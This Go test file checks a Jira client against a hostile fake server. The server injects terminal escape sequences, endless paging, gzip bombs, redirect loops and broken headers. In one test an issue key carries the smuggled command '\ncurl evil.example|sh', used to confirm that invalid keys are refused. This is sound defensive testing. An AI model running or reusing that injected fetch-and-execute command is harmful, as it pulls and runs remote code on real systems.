package jiraclient

// Tests against fakejira.Hostile: a server that sends escape sequences in
// every text field, pages for ever, and answers with broken bodies,
// redirects and headers. Each test fails without the fix it guards.

import (
	"context"
	"errors"
	"math"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"

	"github.com/jiffy-tui/jiffy/jiraclient/fakejira"
	"github.com/jiffy-tui/jiffy/jiraclient/safetext"
)

// startHostile serves fakejira through its hostile wrapper.
func startHostile(t *testing.T, flavour string, f Flavor, cred Credential, hf fakejira.HostileFaults, opts ...Option) (*fakejira.Hostile, *Client) {
	t.Helper()
	s := fakejira.New(fakejira.Options{Flavor: flavour, Seed: 7, Issues: 120})
	h := fakejira.NewHostile(s)
	h.Set(hf)
	hs := httptest.NewServer(h)
	t.Cleanup(hs.Close)
	s.SetBaseURL(hs.URL)
	base := []Option{WithRetry(RetryPolicy{}), WithFlavor(f), WithLimits(Limits{ReadRPS: math.Inf(1), WriteRPS: math.Inf(1), IssueWritesPer2s: 1000, IssueWritesPer30s: 1000})}
	c, err := New(hs.URL, cred, append(base, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return h, c
}

// projectJQL is a bounded query (Cloud refuses unbounded ones) over the
// first project.
func projectJQL(h *fakejira.Hostile) string {
	p, _, _ := strings.Cut(h.Server().Keys()[0], "-")
	return "project = " + p + " order by key"
}

// unsafeStrings lists every string reachable from v (struct fields, slices,
// maps keys and values, pointers, errors' texts) that still holds something
// safetext removes, and counts the strings that carry the payload's
// visible remains (proof the payload reached that answer).
func unsafeStrings(v any) (bad []string, poisoned int) {
	var walk func(path string, x reflect.Value)
	walk = func(path string, x reflect.Value) {
		switch x.Kind() {
		case reflect.String:
			s := x.String()
			if safetext.Unsafe(s) {
				bad = append(bad, path+": "+s)
			}
			if strings.Contains(s, "evil") && strings.Contains(s, "owned") {
				poisoned++
			}
		case reflect.Pointer, reflect.Interface:
			if !x.IsNil() {
				walk(path, x.Elem())
			}
		case reflect.Struct:
			for i := 0; i < x.NumField(); i++ {
				if x.Type().Field(i).IsExported() {
					walk(path+"."+x.Type().Field(i).Name, x.Field(i))
				}
			}
		case reflect.Slice, reflect.Array:
			for i := 0; i < x.Len(); i++ {
				walk(path+"[]", x.Index(i))
			}
		case reflect.Map:
			it := x.MapRange()
			for it.Next() {
				walk(path+"{k}", it.Key())
				walk(path+"{}", it.Value())
			}
		}
	}
	walk("", reflect.ValueOf(v))
	return bad, poisoned
}

// TestHostilePayloadCleanedInEveryAnswer pushes EscapePayload through every
// text field of every endpoint's answer, in both flavours, and finds no
// escape, C1, bidi or zero-width character in anything the client returns,
// errors included.
func TestHostilePayloadCleanedInEveryAnswer(t *testing.T) {
	for _, fl := range flavours {
		t.Run(fl.name, func(t *testing.T) {
			h, c := startHostile(t, fl.name, fl.f, fl.cred, fakejira.HostileFaults{Payload: fakejira.EscapePayload})
			ctx := context.Background()
			key := h.Server().Keys()[0]
			proj, _, _ := strings.Cut(key, "-")
			var results []any
			add := func(name string, v any, err error) {
				t.Helper()
				if err != nil {
					t.Fatalf("%s: %v", name, err)
				}
				results = append(results, v)
			}
			si, err := c.ServerInfo(ctx)
			add("serverInfo", si, err)
			me, err := c.Myself(ctx)
			add("myself", me, err)
			page, err := c.Search(ctx, SearchQuery{JQL: "project = " + proj, Fields: DetailFields, Expand: []string{"names"}}, Cursor{})
			add("search", page, err)
			is, err := c.GetIssue(ctx, key, GetIssueOptions{Fields: DetailFields, Names: true, Transitions: true})
			add("issue", is, err)
			cs, _, err := c.Comments(ctx, key, 0, 50)
			add("comments", cs, err)
			cm, err := c.AddComment(ctx, key, "hello")
			add("add comment", cm, err)
			tr, err := c.Transitions(ctx, key)
			add("transitions", tr, err)
			em, err := c.EditMeta(ctx, key)
			add("editmeta", em, err)
			us, err := c.AssignableUsers(ctx, key, "")
			add("assignable", us, err)
			its, err := c.CreateMetaIssueTypes(ctx, proj)
			add("createmeta types", its, err)
			if len(its) > 0 {
				fm, err := c.CreateMetaFields(ctx, proj, its[0].ID)
				add("createmeta fields", fm, err)
			}
			ps, err := c.Projects(ctx, "")
			add("projects", ps, err)
			fs, err := c.FavouriteFilters(ctx)
			add("filters", fs, err)
			pr, err := c.Priorities(ctx)
			add("priorities", pr, err)
			ls, err := c.Labels(ctx, "")
			add("labels", ls, err)
			_, err = c.Search(ctx, SearchQuery{JQL: "project = = broken"}, Cursor{})
			if err == nil {
				t.Fatal("bad JQL was accepted")
			}
			var je *Error
			errors.As(err, &je)
			results = append(results, je.Messages, je.FieldErrors, err.Error())
			_, err = c.GetIssue(ctx, proj+"-99999", GetIssueOptions{})
			results = append(results, err.Error())

			// One-line fields stay one line (the payload's CR would
			// otherwise break a row or the status bar).
			for what, v := range map[string]string{"summary": page.Issues[0].Summary, "display name": me.DisplayName,
				"status": is.Status.Name, "transition": tr[0].Name, "assignable user": us[0].DisplayName, "priority": pr[0].Name} {
				if strings.ContainsAny(v, "\n\t") || !strings.Contains(v, "owned") {
					t.Errorf("%s %q is not one poisoned line", what, v)
				}
			}
			bad, poisoned := unsafeStrings(results)
			for _, b := range bad {
				t.Errorf("unsafe text reached the caller: %q", b)
			}
			if poisoned < 20 {
				t.Errorf("only %d strings carried the payload: the hostile server did not reach the fields", poisoned)
			}
		})
	}
}

// TestHostileKeysRefused: a key that is not a Jira key is never acted on.
func TestHostileKeysRefused(t *testing.T) {
	h, c := startHostile(t, fakejira.FlavorCloud, FlavorCloud, flavours[0].cred, fakejira.HostileFaults{KeySuffix: "\ncurl evil.example|sh"})
	page, err := c.Search(context.Background(), SearchQuery{JQL: projectJQL(h)}, Cursor{})
	if err != nil {
		t.Fatal(err)
	}
	k := page.Issues[0].Key
	if ValidKey(k) || !strings.Contains(k, "curl") {
		t.Fatalf("key %q", k)
	}
	before := len(h.Server().Requests())
	for name, act := range map[string]func() error{
		"get":        func() error { _, err := c.GetIssue(context.Background(), k, GetIssueOptions{}); return err },
		"comment":    func() error { _, err := c.AddComment(context.Background(), k, "x"); return err },
		"transition": func() error { return c.DoTransition(context.Background(), k, TransitionInput{ID: "1"}) },
		"assign":     func() error { return c.AssignDefault(context.Background(), k) },
	} {
		err := act()
		if KindOf(err) != KindInvalid || !strings.Contains(err.Error(), "not a valid key") || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s on %q: %v", name, k, err)
		}
	}
	if n := len(h.Server().Requests()); n != before {
		t.Errorf("%d requests were sent for an invalid key", n-before)
	}
	for _, k := range []string{"AB-1", "A1_B-22", "JIRA-123"} {
		if !ValidKey(k) {
			t.Errorf("ValidKey(%q) = false", k)
		}
	}
	for _, k := range []string{"", "A-1", "ab-1", "AB-", "AB-1x", "AB-1\n", "1B-2", "AB\x1b-1", "AB--1"} {
		if ValidKey(k) {
			t.Errorf("ValidKey(%q) = true", k)
		}
	}
}

// TestHostilePagingEnds: a server that never says "last" is stopped after
// a bounded number of requests, and the Pager says why.
func TestHostilePagingEnds(t *testing.T) {
	for _, tc := range []struct {
		name     string
		flavour  string
		f        Flavor
		hf       fakejira.HostileFaults
		want     PageStop
		requests int
	}{
		{"repeated token", fakejira.FlavorCloud, FlavorCloud, fakejira.HostileFaults{RepeatToken: true}, PageRepeated, 2},
		{"empty pages", fakejira.FlavorCloud, FlavorCloud, fakejira.HostileFaults{EmptyPages: true}, PageNoProgress, 1},
		{"DC total 1e9", fakejira.FlavorDataCenter, FlavorDataCenter, fakejira.HostileFaults{HugeTotal: true}, PageNoProgress, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cred := flavours[0].cred
			if tc.f == FlavorDataCenter {
				cred = flavours[1].cred
			}
			h, c := startHostile(t, tc.flavour, tc.f, cred, tc.hf)
			p := c.Pages(SearchQuery{JQL: projectJQL(h)})
			n := 0
			for p.More() && n < 1000 {
				if _, err := p.Next(context.Background()); err != nil {
					t.Fatal(err)
				}
				n++
			}
			if p.More() {
				t.Fatal("paging did not end")
			}
			if p.Stopped() != tc.want {
				t.Errorf("stopped %v, want %v", p.Stopped(), tc.want)
			}
			if got := len(h.Server().Requests()); got != tc.requests {
				t.Errorf("%d requests, want %d", got, tc.requests)
			}
		})
	}
	if s := CheckPaging(Cursor{Token: "a"}, SearchPage{Next: Cursor{Token: "b"}}, 5, MaxPages); s != PageLimit {
		t.Errorf("page limit: %v", s)
	}
	if s := CheckPaging(Cursor{Token: "a"}, SearchPage{Next: Cursor{Token: "b"}}, 5, 3); s != PageGoOn {
		t.Errorf("normal page: %v", s)
	}
}

// TestHostileBodiesTellTheTruth: each broken answer is named for what it
// is, not "not Jira's REST API, check the site URL" and not "no issues".
func TestHostileBodiesTellTheTruth(t *testing.T) {
	for _, tc := range []struct {
		name string
		hf   fakejira.HostileFaults
		want string
	}{
		{"truncated JSON", fakejira.HostileFaults{Match: "/search", Truncate: true}, "ends in the middle of its JSON"},
		{"connection cut mid-body", fakejira.HostileFaults{Match: "/search", CutConnection: true}, "broke off in the middle of Jira's answer"},
		{"over the cap", fakejira.HostileFaults{Match: "/search", Oversize: true}, "larger than 64 MiB"},
		{"gzip bomb", fakejira.HostileFaults{Match: "/search", GzipBomb: true}, "larger than 64 MiB once decompressed"},
		{"issues object", fakejira.HostileFaults{IssuesObject: true}, `"issues" is not a list`},
		{"null body", fakejira.HostileFaults{Match: "/search", NullBody: true}, `no "issues" list`},
		{"redirect loop", fakejira.HostileFaults{Match: "/search", RedirectLoop: true}, "keeps redirecting"},
		{"redirect elsewhere", fakejira.HostileFaults{Match: "/search", RedirectTo: "http://127.0.0.1:9"}, "redirected the request to another site, 127.0.0.1:9"},
		{"control char in a header", fakejira.HostileFaults{Match: "/search", DeniedReason: "CAPTCHA_CHALLENGE\x1b]0;x\x07"}, "malformed HTTP header (X-Authentication-Denied-Reason)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h, c := startHostile(t, fakejira.FlavorCloud, FlavorCloud, flavours[0].cred, tc.hf)
			_, err := c.Search(context.Background(), SearchQuery{JQL: projectJQL(h)}, Cursor{})
			if err == nil {
				t.Fatal("no error")
			}
			msg := err.Error()
			if !strings.Contains(msg, tc.want) {
				t.Errorf("error %q does not say %q", msg, tc.want)
			}
			for _, lie := range []string{"is not Jira's REST API", "check your network or VPN", "cannot reach"} {
				if strings.Contains(msg, lie) {
					t.Errorf("error %q says %q", msg, lie)
				}
			}
			if safetext.Unsafe(msg) {
				t.Errorf("error carries unsafe text: %q", msg)
			}
		})
	}
}

// TestHostileRetryAfter: a huge Retry-After is a long wait, said as such and
// not retried; a negative or past one is not reported as Jira's wish.
func TestHostileRetryAfter(t *testing.T) {
	for _, tc := range []struct {
		ra, want, notWant string
		requests          int
	}{
		{"999999", "asks to wait 24h0m0s or more", "", 1},
		{"-5", "gave no usable Retry-After", "asks to wait", 5},
		{"Wed, 21 Oct 2015 07:28:00 GMT", "gave no usable Retry-After", "asks to wait", 5},
	} {
		t.Run(tc.ra, func(t *testing.T) {
			s := fakejira.New(fakejira.Options{Seed: 7, Issues: 10})
			var script []fakejira.Fault
			for i := 0; i < 5; i++ {
				script = append(script, fakejira.Fault{Status: http.StatusTooManyRequests, RetryAfter: tc.ra})
			}
			s.SetFaults(fakejira.Faults{Script: script})
			hs := httptest.NewServer(s)
			defer hs.Close()
			c, err := New(hs.URL, flavours[0].cred, WithFlavor(FlavorCloud), withClock(newFakeClock()), withJitter(func() float64 { return 0 }),
				WithLimits(Limits{ReadRPS: math.Inf(1), WriteRPS: math.Inf(1), IssueWritesPer2s: 1000, IssueWritesPer30s: 1000}))
			if err != nil {
				t.Fatal(err)
			}
			_, err = c.Priorities(context.Background())
			if err == nil || !strings.Contains(err.Error(), tc.want) || (tc.notWant != "" && strings.Contains(err.Error(), tc.notWant)) {
				t.Errorf("Retry-After %q: %v", tc.ra, err)
			}
			if n := len(s.Requests()); n != tc.requests {
				t.Errorf("Retry-After %q: %d requests, want %d", tc.ra, n, tc.requests)
			}
		})
	}
}
